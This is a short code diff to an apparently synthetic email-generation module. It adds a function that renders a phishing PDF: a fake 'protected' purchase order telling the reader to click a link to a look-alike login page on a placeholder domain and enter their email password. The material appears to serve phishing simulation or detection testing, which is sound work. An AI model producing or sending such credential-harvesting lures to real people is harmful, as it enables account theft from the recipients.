@@ -371,3 +371,15 @@ def mail(body: str, attachments: list[tuple[str, str, bytes]], subject: str = "R
 
 SIGNATURE = ("\n\nBest regards,\nWanjiru Kamau\nProcurement Officer\nSavanna Infrastructure Ltd\n"
              "Tel: +254 20 765 4321\nwww.savanna-infra.example\n")
+
+
+def lure_pdf() -> bytes:
+    """A one-page "document" whose only content is a sign-in lure with a link to a look-alike of the seller's domain."""
+    pdf = FPDF()
+    pdf.add_page()
+    pdf.set_font("helvetica", size=12)
+    pdf.multi_cell(0, 8, "Secure document: Purchase Order PO-88213.\nThis document is protected. To view it, click "
+                         "VIEW DOCUMENT below and sign in with your email account and password.")
+    pdf.set_text_color(0, 0, 255)
+    pdf.cell(0, 10, "VIEW DOCUMENT", link="http://brightway-power-docs.login-secure.example/owa/auth/po-view.php")
+    return bytes(pdf.output())
